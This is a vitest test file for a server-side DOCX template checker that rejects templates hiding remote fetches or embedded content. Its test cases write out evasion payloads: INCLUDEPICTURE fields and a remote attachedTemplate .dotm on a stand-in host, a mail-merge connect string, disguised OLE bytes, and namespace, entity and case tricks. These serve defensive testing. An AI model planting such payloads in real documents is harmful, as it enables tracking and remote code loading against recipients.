import { describe, expect, it } from 'vitest';
import { fillDocx } from '../../server/documents/fill-docx.ts';
import { readZip } from '../../server/documents/zip.ts';
import { checkTemplate } from '../../server/templates/check.ts';
import { sampleNote } from '../../server/templates/sample.ts';
import { override, p, pack, paragraphsOf, parts, relationship, template, w } from './packages.ts';

const code = async (file: Uint8Array): Promise<string> => (await checkTemplate(file)).refusal?.code ?? 'taken';
const away = 'https://ailleurs.example/a.png';
const rels = (...all: string[]): string => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${all.join('')}</Relationships>`;
const field = (instruction: string): string => `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;
const fetching = (inner = 'INCLUDEPICTURE'): string => `<w:ftr ${w}>${field(`${inner} "${away}"`)}</w:ftr>`;
const footerOf = (target: string): string => relationship('footer', target, '');
const vml = (attributes: string, prefix = 'v'): string => `${p('x')}<w:p><w:r><w:pict><${prefix}:shape xmlns:${prefix}="urn:schemas-microsoft-com:vml"><${prefix}:imagedata ${attributes}/></${prefix}:shape></w:pict></w:r></w:p>`;
const settings = (inner: string): [Parameters<typeof template>[0], Record<string, string>] => [
  { relationships: relationship('settings', 'settings.xml', ''), contentTypes: override('word/settings.xml', 'settings') },
  { 'word/settings.xml': `<w:settings ${w}>${inner}</w:settings>` },
];
const withBin = '<Default Extension="bin" ContentType="application/octet-stream"/>';
const changed = (name: string, change: (xml: string) => string): Buffer => pack({ ...parts(), [name]: change(parts()[name] ?? '') });

describe('a template that hides something from those who look at it', () => {
  it.each<[string, string, () => Buffer]>([
    ['relationships under capitals', 'broken', () => template({}, { 'word/_rels/settings.xml.RELS': rels(relationship('attachedTemplate', 'https://ailleurs.example/a.dotm')) })],
    ['markup under capitals', 'broken', () => template({ relationships: footerOf('footerX.XML'), contentTypes: override('word/footerX.XML', 'footer') }, { 'word/footerX.XML': fetching() })],
    ['markup under another extension', 'embedded', () => template({ relationships: footerOf('footerX.bin'), contentTypes: override('word/footerX.bin', 'footer') }, { 'word/footerX.bin': fetching() })],
    ['markup that a picture is said to be', 'embedded', () => template({ contentTypes: '<Default Extension="png" ContentType="image/png"/>' }, { 'word/media/a.png': fetching() })],
    ['a footer elsewhere than with Word’s own', 'embedded', () => template({ relationships: footerOf('/parts/footerX.xml'), contentTypes: override('parts/footerX.xml', 'footer') }, { 'parts/footerX.xml': fetching() })],
    ['a footer among the data', 'broken', () => template({ relationships: footerOf('../customXml/item1.xml') }, { 'customXml/item1.xml': fetching() })],
    ['a footer of no declared type', 'broken', () => template({ relationships: footerOf('suite/f.xml') }, { 'word/suite/f.xml': fetching() })],
    ['two types for one part', 'broken', () => template({ contentTypes: override('word/FOOTER1.xml', 'settings') })],
    ['the words of Word under another prefix', 'broken', () => template({ footer: `<w:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><x:r><x:fldChar x:fldCharType="begin"/></x:r><x:r><x:instrText>INCLUDEPICTURE "${away}"</x:instrText></x:r></w:p>` })],
    ['the words of Word without a prefix', 'broken', () => template({ footer: `<p xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><r><instrText>INCLUDEPICTURE "${away}"</instrText></r></p>` })],
    ['the usual prefix for something else', 'broken', () => template({ footer: '<w:p xmlns:w="urn:autre"/>' })],
    ['an address of them in figures', 'broken', () => template({ footer: '<w:p xmlns:x="&#104;ttp://schemas.openxmlformats.org/wordprocessingml/2006/main"/>' })],
    ['a section that names its header under another prefix', 'broken', () => template({ footer: '<w:p xmlns:q="http://schemas.openxmlformats.org/officeDocument/2006/relationships"/>' })],
    ['an old drawing under another prefix', 'broken', () => template({ header: vml(`src="${away}"`, 'z') })],
    ['an address in figures', 'outside_links', () => template({ header: vml('src="&#104;ttps://ailleurs.example/a.png"') })],
    ['an address after the sign of an end', 'outside_links', () => template({ header: vml(`title=">" src="${away}"`) })],
    ['an address in figures in a drawing', 'outside_links', () => template({ contentTypes: '<Default Extension="svg" ContentType="image/svg+xml"/>' }, { 'word/media/a.svg': '<svg><image href="&#x68;ttps://ailleurs.example/a.png"/></svg>' })],
    ['another text than the one looked at', 'broken', () => pack({ ...parts({ contentTypes: override('word/real.xml', 'document.main') }), 'word/real.xml': `<w:document ${w}><w:body>${p('vrai')}</w:body></w:document>`, '_rels/.rels': rels(relationship('officeDocument', 'word/real.xml', '')) })],
    ['two texts', 'broken', () => changed('_rels/.rels', (xml) => xml.replace('</Relationships>', `${relationship('officeDocument', '/word/document.xml', '')}</Relationships>`))],
    ['no text by relationship', 'broken', () => pack({ ...parts(), '_rels/.rels': rels() })],
    ['other settings than those looked at', 'broken', () => template({ relationships: relationship('settings', 'autres.xml', ''), contentTypes: override('word/autres.xml', 'settings') }, { 'word/autres.xml': `<w:settings ${w}><w:evenAndOddHeaders/></w:settings>` })],
    ['a header named in another case', 'broken', () => template({ relationships: relationship('header', 'HEADER1.xml', '') })],
    ['a mailing', 'outside_links', () => template(...settings('<w:mailMerge><w:connectString w:val="Provider=SQLOLEDB;Data Source=ailleurs.example"/></w:mailMerge>'))],
    ['a field after an empty word', 'outside_links', () => template({ footer: fetching('"" INCLUDEPICTURE').replace(/<\/?w:ftr[^>]*>/g, '') })],
    ['a field after a word that an escape seems to close', 'outside_links', () => template({ footer: field(`"\\" INCLUDEPICTURE "${away}"`) })],
    ['a field whose name another field gives', 'outside_links', () => template({ footer: `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>QUOTE "INCLUDEPICTURE"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'}<w:r><w:instrText> "${away}"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>` })],
    ['a field that was struck out', 'outside_links', () => template({ footer: field(`INCLUDEPICTURE "${away}"`).replaceAll('w:instrText', 'w:delInstrText') })],
    ['a field in a stretch of characters', 'broken', () => template({ footer: field(`<![CDATA[INCLUDEPICTURE "${away}"]]>`) })],
    ['a control under a capital', 'controls', () => template({ relationships: relationship('Control', 'activeX/a.xml', '') }, { 'word/activeX/a.xml': '<a/>' })],
    ['another document under small letters', 'embedded', () => template({ relationships: relationship('afchunk', 'autre.html', '') }, { 'word/autre.html': '<p>x</p>' })],
    ['an attached template with a stroke at its end', 'outside_links', () => template({}, { 'word/_rels/settings.xml.rels': rels(relationship('attachedTemplate/', 'a.dotx', '')) })],
    ['a kind that nobody knows', 'embedded', () => template({ relationships: relationship('inconnu', 'a.xml', '') })],
    ['a known kind at another address', 'embedded', () => template({ relationships: relationship('image', 'a.png', '').replace('http://schemas.openxmlformats.org', 'http://ailleurs.example') })],
    ['relationships under a base of their own', 'broken', () => changed('word/_rels/document.xml.rels', (xml) => xml.replace('<Relationships ', '<Relationships xml:base="/ailleurs/" '))],
    ['an object that no relationship leads to', 'embedded', () => template({ contentTypes: withBin }, { 'word/embeddings/oleObject1.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') })],
    ['an object that a picture is said to be', 'embedded', () => template({ contentTypes: '<Default Extension="png" ContentType="image/png"/>' }, { 'word/media/a.png': Buffer.from('d0cf11e0a1b11ae1', 'hex') })],
    ['markup that nothing leads to, where Word has none', 'embedded', () => template({}, { 'word/suite/f.xml': fetching() })],
    ['a page of the web', 'embedded', () => template({ contentTypes: '<Default Extension="html" ContentType="text/html"/>' }, { 'word/a.html': '<p>x</p>' })],
  ])('%s: %s', async (_what, expected, make) => {
    expect(await code(make())).toBe(expected);
  });

  it.each([
    ['an instruction that is only quoted', field('QUOTE "LINK et IMPORT"')],
    ['a link to a page of that name', field('HYPERLINK "https://ville.example/link"')],
    ['fields of every letterhead', field('PAGE') + field('DATE \\@ "d MMMM yyyy"') + field('IF 1 = 1 "x"') + field('STYLEREF "Titre 1"')],
    ['an old drawing of its own', vml('o:title="logo"').replace('v:imagedata o:', 'v:imagedata xmlns:o="urn:schemas-microsoft-com:office:office" o:')],
  ])('is not %s', async (_what, footer) => {
    expect(await code(template({ footer }))).toBe('taken');
  });
});

describe('a classification that nobody would read', () => {
  const hidden = (properties: string, text = '{classification}'): string => `<w:p><w:r><w:rPr>${properties}</w:rPr><w:t>${text}</w:t></w:r></w:p>`;
  const style = (id: string, type: string, rest: string): string => `<w:style w:type="${type}" w:styleId="${id}"><w:name w:val="${id}"/>${rest}</w:style>`;
  const styles = `${style('Normal', 'paragraph', '')}${style('Cache', 'character', '<w:rPr><w:vanish/></w:rPr>')}${style('Enfant', 'paragraph', '<w:basedOn w:val="Mere"/>')}${style('Mere', 'paragraph', '<w:rPr><w:vanish/></w:rPr>')}`;
  it.each([
    ['in hidden letters', hidden('<w:vanish/>')],
    ['half in hidden letters', `<w:p><w:r><w:t>{classi</w:t></w:r><w:r><w:rPr><w:vanish w:val="1"/></w:rPr><w:t>fication}</w:t></w:r></w:p>`],
    ['hidden by its style', hidden('<w:rStyle w:val="Cache"/>')],
    ['hidden by the style of its paragraph, from another', p('{classification}').replace('<w:p>', '<w:p><w:pPr><w:pStyle w:val="Enfant"/></w:pPr>')],
  ])('%s is said again where it is seen', async (_what, header) => {
    const file = template({ header, styles });
    expect((await checkTemplate(file)).check?.missing).toContain('classification');
    const filled = readZip(await fillDocx(sampleNote, file)).get('word/header1.xml')?.toString('utf8') ?? '';
    expect(paragraphsOf(filled).at(-1)).toBe(sampleNote.parts[0]?.header.classification.map(({ text }) => text).join(''));
  });
  it('is seen where hiding is turned off', async () => {
    expect((await checkTemplate(template({ header: hidden('<w:vanish w:val="0"/>') }))).check?.missing).not.toContain('classification');
  });
});

describe('a template as Word and LibreOffice make it', () => {
  it('is taken with all its parts, and they are in the note', async () => {
    const openxml = 'application/vnd.openxmlformats-officedocument';
    const inWord = (name: string, element: string, content = ''): [string, string] => [`word/${name}.xml`, `<w:${element} ${w}>${content}</w:${element}>`];
    const wordParts = [
      inWord('settings', 'settings', '<w:zoom w:percent="100"/>'),
      inWord('webSettings', 'webSettings'),
      inWord('fontTable', 'fonts'),
      inWord('numbering', 'numbering'),
      inWord('footnotes', 'footnotes', `<w:footnote w:id="0">${p('note')}</w:footnote>`),
      inWord('endnotes', 'endnotes'),
      inWord('comments', 'comments'),
      inWord('glossary/document', 'glossaryDocument'),
      inWord('glossary/styles', 'styles'),
      inWord('glossary/settings', 'settings'),
    ];
    const simple = ['settings', 'webSettings', 'fontTable', 'numbering', 'footnotes', 'endnotes', 'comments'];
    const microsoft = (year: string, kind: string, target: string): string => `<Relationship Id="m${kind}" Type="http://schemas.microsoft.com/office/${year}/relationships/${kind}" Target="${target}"/>`;
    const own = (kind: string, target: string): string => relationship(kind, target, '').replace('rId9', `x${kind}${target.replace(/\W/g, '')}`);
    const images = ['media/image1.png', 'media/image2.jpeg', 'media/image3.emf', 'media/image4.JPG'];
    const base = parts({
      contentTypes: [
        ...simple.map((kind) => override(`word/${kind}.xml`, kind)),
        ...['document', 'styles', 'settings'].map((kind) => override(`word/glossary/${kind}.xml`, kind === 'document' ? 'document.glossary' : kind)),
        override('word/theme/theme1.xml', `${openxml}.theme+xml`),
        override('customXml/itemProps1.xml', `${openxml}.customXmlProperties+xml`),
        override('docProps/core.xml', 'application/vnd.openxmlformats-package.core-properties+xml'),
        override('docProps/app.xml', `${openxml}.extended-properties+xml`),
        override('docProps/custom.xml', `${openxml}.custom-properties+xml`),
        override('docMetadata/LabelInfo.xml', 'application/vnd.ms-office.classificationlabels+xml'),
        override('word/people.xml', 'people'),
        override('word/commentsExtended.xml', 'commentsExtended'),
        ...[['png', 'image/png'], ['jpeg', 'image/jpeg'], ['JPG', 'image/jpeg'], ['emf', 'image/x-emf'], ['odttf', `${openxml}.obfuscatedFont`], ['bin', `${openxml}.wordprocessingml.printerSettings`]].map(([of, type]) => `<Default Extension="${of}" ContentType="${type}"/>`),
      ].join(''),
      relationships: [
        ...simple.map((kind) => own(kind, `${kind}.xml`)),
        own('glossaryDocument', 'glossary/document.xml'),
        own('theme', 'theme/theme1.xml'),
        own('customXml', '../customXml/item1.xml'),
        own('printerSettings', 'printerSettings/printerSettings1.bin'),
        ...images.map((target) => own('image', target)),
        microsoft('2011', 'people', 'people.xml'),
        microsoft('2011', 'commentsExtended', 'commentsExtended.xml'),
        relationship('hyperlink', 'https://www.ville.example/'),
      ].join(''),
    });
    const added: Record<string, string | Buffer> = {
      ...Object.fromEntries(wordParts),
      'word/_rels/fontTable.xml.rels': rels(own('font', 'fonts/font1.odttf')),
      'word/glossary/_rels/document.xml.rels': rels(own('styles', 'styles.xml'), own('settings', 'settings.xml')),
      'word/theme/theme1.xml': '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" name="Thème"/>',
      'word/people.xml': '<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"/>',
      'word/commentsExtended.xml': '<w15:commentsEx xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml"/>',
      'word/fonts/font1.odttf': Buffer.from('00010000', 'hex'),
      'word/printerSettings/printerSettings1.bin': Buffer.from('Imprimante', 'utf16le'),
      'word/media/image1.png': Buffer.from('89504e470d0a1a0a', 'hex'),
      'word/media/image2.jpeg': Buffer.from('ffd8ffe0', 'hex'),
      'word/media/image3.emf': Buffer.from('01000000', 'hex'),
      'word/media/image4.JPG': Buffer.from('ffd8ffe1', 'hex'),
      'customXml/item1.xml': '<b:Sources xmlns:b="http://schemas.openxmlformats.org/officeDocument/2006/bibliography" xmlns="urn:a"/>',
      'customXml/itemProps1.xml': '<ds:datastoreItem xmlns:ds="http://schemas.openxmlformats.org/officeDocument/2006/customXml"/>',
      'customXml/_rels/item1.xml.rels': rels(own('customXmlProps', 'itemProps1.xml')),
      'docProps/core.xml': '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>',
      'docProps/app.xml': '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"/>',
      'docProps/custom.xml': '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties"/>',
      'docProps/thumbnail.jpeg': Buffer.from('ffd8ffe0', 'hex'),
      'docMetadata/LabelInfo.xml': '<clbl:labelList xmlns:clbl="http://schemas.microsoft.com/office/2020/mipLabelMetadata"/>',
      '_rels/.rels': rels(
        own('officeDocument', 'word/document.xml'),
        own('extended-properties', 'docProps/app.xml'),
        own('custom-properties', 'docProps/custom.xml'),
        ...['core-properties', 'thumbnail'].map((kind) => `<Relationship Id="p${kind}" Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/${kind}" Target="docProps/${kind === 'thumbnail' ? 'thumbnail.jpeg' : 'core.xml'}"/>`),
        microsoft('2020/02', 'classificationlabels', 'docMetadata/LabelInfo.xml'),
      ),
    };
    const file = pack({ ...base, ...added });
    expect((await checkTemplate(file)).refusal).toBeUndefined();
    const filled = readZip(await fillDocx(sampleNote, file));
    const kept = Object.keys(added).filter((name) => !name.startsWith('word/comments'));
    expect([...filled.keys()]).toEqual(expect.arrayContaining(kept));
  });
});
